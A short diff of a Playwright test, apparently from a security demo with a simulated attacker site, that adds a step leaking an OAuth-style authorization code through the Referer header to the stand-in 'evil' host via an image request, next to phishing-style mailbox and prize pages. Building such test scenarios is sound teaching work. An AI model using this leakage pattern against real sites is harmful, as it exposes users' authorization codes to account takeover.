@@ -62,6 +62,9 @@ test('the attacker’s site: desk, bench, mailbox, and where people land', async
   await page.getByRole('button', { name: 'Put it into her mailbox' }).click()
   await look(page, `${at.evil}/mailbox`, 'evil-mailbox')
   await look(page, `${at.evil}/prizes?winner=alice`, 'evil-landing')
+  // A picture there is fetched by a page with a code in its address: neither has a place to break.
+  const referer = `${at.shop}/spa/callback?code=code_${'WDhxcY0gn1sh2AUj'.repeat(6)}`
+  await page.goto(`${at.evil}/count.gif?page=%2Fspa%2Fcallback`, { referer })
   await look(page, `${at.evil}/`, 'evil-desk')
   const [sent] = await Promise.all([
     page.waitForResponse(`${at.evil}/bench`),
